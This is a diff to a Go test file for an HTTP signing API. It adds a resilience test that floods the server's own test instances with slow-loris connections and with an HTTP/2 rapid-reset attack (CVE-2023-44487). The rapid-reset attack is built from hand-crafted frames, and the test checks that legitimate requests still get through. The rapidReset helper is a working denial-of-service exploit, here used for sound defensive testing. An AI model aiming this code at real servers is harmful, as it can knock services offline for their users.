@@ -1,13 +1,18 @@
 package httpapi_test
 
 import (
+	"bufio"
+	"context"
 	"crypto/tls"
+	"encoding/binary"
+	"encoding/json/v2"
 	"fmt"
 	"io"
 	"log/slog"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"runtime"
 	"strings"
 	"sync"
 	"testing"
@@ -132,7 +137,7 @@ func TestIN06_ExportsThatStallLeaveTheDatabaseToOthers(t *testing.T) {
 		return k.Do(who, r)
 	}
 	first := export("audrey")
-	for _, answer := range []*http.Response{first, export("ada"), export("adam")} {
+	for _, answer := range []*http.Response{first, export("ada")} {
 		if answer.StatusCode != http.StatusOK {
 			t.Fatalf("an export is refused with %d", answer.StatusCode)
 		}
@@ -150,4 +155,179 @@ func TestIN06_ExportsThatStallLeaveTheDatabaseToOthers(t *testing.T) {
 	for answer := export("audrey"); answer.StatusCode != http.StatusOK; answer = export("audrey") { // until the server has noticed
 		expect(t, "an export after the first", answer, problemOf(t, answer), api.TooMany)
 	}
+}
+
+// IN-06
+func TestIN06_SlowConnectionsAndRapidResetsStopNobodyElse(t *testing.T) {
+	k := testkit.New(t)
+	const slow = 2000
+	plain := serve(k, nil, func(s *http.Server) { s.ReadHeaderTimeout = 3 * time.Second })
+	secure := serve(k, &tls.Config{}, func(*http.Server) {})
+	before := usage()
+
+	var cut, resets sync.WaitGroup
+	dribble := make(chan net.Conn, slow)
+	for i := range slow {
+		conn, err := net.Dial("tcp", plain.Listener.Addr().String())
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer conn.Close()
+		if i%2 == 0 {
+			dribble <- conn
+		}
+		cut.Go(func() { _, _ = io.Copy(io.Discard, conn) }) // until the server has had enough
+	}
+	for range 4 {
+		resets.Go(func() { rapidReset(t, secure.Listener.Addr().String(), k.Token("eve")) })
+	}
+	over := make(chan struct{})
+	go func() {
+		cut.Wait()
+		resets.Wait()
+		close(over)
+	}()
+	go func() { // one letter of a header for one connection after the other
+		for {
+			select {
+			case conn := <-dribble:
+				_, _ = io.WriteString(conn, "G")
+				dribble <- conn
+			case <-over:
+				return
+			}
+		}
+	}()
+
+	peak, requests := before, 0
+	for attacked := true; attacked; {
+		select {
+		case <-over:
+			attacked = false
+		default:
+		}
+		for _, server := range []*httptest.Server{plain, secure} {
+			healthy(k, server, fmt.Sprintf("order %d", requests))
+			requests++
+		}
+		peak = peak.with(usage())
+	}
+	t.Logf("%d requests during the attack; %d MB and %d goroutines more than before", requests, (peak.heap-before.heap)>>20, peak.goroutines-before.goroutines)
+	// Two for each connection and one for what reads it here; the streams that the resets may have under way.
+	if peak.goroutines-before.goroutines > 4*slow+4*500 {
+		t.Errorf("there were %d goroutines, before the attack %d", peak.goroutines, before.goroutines)
+	}
+	if (peak.heap-before.heap)>>20 > 200 {
+		t.Errorf("the heap had %d MB, before the attack %d MB", peak.heap>>20, before.heap>>20)
+	}
+}
+
+// resources are what an attack may use up.
+type resources struct{ heap, goroutines int }
+
+func usage() resources {
+	var m runtime.MemStats
+	runtime.ReadMemStats(&m)
+	return resources{int(m.HeapInuse), runtime.NumGoroutine()}
+}
+
+func (r resources) with(other resources) resources {
+	return resources{max(r.heap, other.heap), max(r.goroutines, other.goroutines)}
+}
+
+// healthy creates an operation and signs under it.
+func healthy(k *testkit.Kit, server *httptest.Server, key string) {
+	k.Helper()
+	post := func(path, body string, into any) {
+		k.Helper()
+		ctx, cancel := context.WithTimeout(k.Context(), 20*time.Second)
+		defer cancel()
+		r, err := http.NewRequestWithContext(ctx, "POST", server.URL+path, strings.NewReader(body))
+		if err != nil {
+			k.Fatal(err)
+		}
+		r.Header.Set("Content-Type", api.MediaJSON)
+		r.Header.Set("Authorization", "Bearer "+k.Token("olga"))
+		r.Header.Set(api.HeaderIdempotencyKey, strings.ReplaceAll(key, " ", "-"))
+		answer, err := server.Client().Do(r)
+		if err != nil {
+			k.Fatalf("%s during the attack: %v", path, err)
+		}
+		defer answer.Body.Close()
+		if err := json.UnmarshalRead(answer.Body, into); err != nil || answer.StatusCode != http.StatusCreated {
+			k.Fatalf("%s during the attack: got %d %v", path, answer.StatusCode, err)
+		}
+	}
+	var o api.Operation
+	post(api.PathOperations, operationBody(oneKey), &o)
+	var signed api.SignOrder
+	post("/api/operations/"+o.ID+"/signorders", `{"keyid":"fw-dev","hash":"SHA-256","digest":"`+digestOf(key)+`"}`, &signed)
+	if len(signed.Signature) == 0 {
+		k.Fatalf("no signature: %+v", signed)
+	}
+}
+
+// rapidReset asks for one thing after the other over HTTP/2 and takes each back at once (CVE-2023-44487),
+// until the server closes the connection.
+func rapidReset(t *testing.T, address, token string) {
+	conn, err := tls.Dial("tcp", address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
+	if err != nil {
+		t.Error(err)
+		return
+	}
+	defer conn.Close()
+	// RFC 9113 section 4.1: length, type, flags, stream.
+	frame := func(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
+		to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
+		return append(binary.BigEndian.AppendUint32(to, stream), payload...)
+	}
+	// RFC 7541: GET and https of the static table, then fields that are not indexed.
+	field := func(to []byte, name []byte, value string) []byte {
+		to = append(to, name...)
+		if n := len(value); n < 127 {
+			to = append(to, byte(n))
+		} else {
+			to = append(to, 127)
+			for n -= 127; n >= 128; n >>= 7 {
+				to = append(to, byte(n)|128)
+			}
+			to = append(to, byte(n))
+		}
+		return append(to, value...)
+	}
+	headers := []byte{0x82, 0x87}
+	headers = field(headers, []byte{0x01}, "keyserver")           // :authority
+	headers = field(headers, []byte{0x04}, "/api/operations")     // :path
+	headers = field(headers, []byte{0x0f, 0x08}, "Bearer "+token) // authorization
+	const (
+		headersFrame, resetFrame, settingsFrame = 1, 3, 4
+		endStream, endHeaders                   = 1, 4
+	)
+	cancel := []byte{0, 0, 0, 8}
+	first := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame, 0, 0, nil)
+	if _, err := conn.Write(frame(first, headersFrame, endStream|endHeaders, 1, headers)); err != nil {
+		t.Error(err)
+		return
+	}
+	answers := bufio.NewReader(conn)
+	for kind := byte(settingsFrame); kind != headersFrame; { // the first request is answered: it is a good one
+		var head [9]byte
+		if _, err := io.ReadFull(answers, head[:]); err != nil {
+			t.Errorf("the first request is not answered: %v", err)
+			return
+		}
+		kind = head[3]
+		if _, err := answers.Discard(int(head[0])<<16 | int(head[1])<<8 | int(head[2])); err != nil {
+			t.Error(err)
+			return
+		}
+	}
+	go func() { _, _ = io.Copy(io.Discard, answers) }()
+	for stream := uint32(3); stream < 200_000; stream += 2 {
+		pair := frame(nil, headersFrame, endStream|endHeaders, stream, headers)
+		if _, err := conn.Write(frame(pair, resetFrame, 0, stream, cancel)); err != nil {
+			return // the server has had enough
+		}
+	}
+	t.Error("the server lets 100,000 requests be made and taken back")
 }
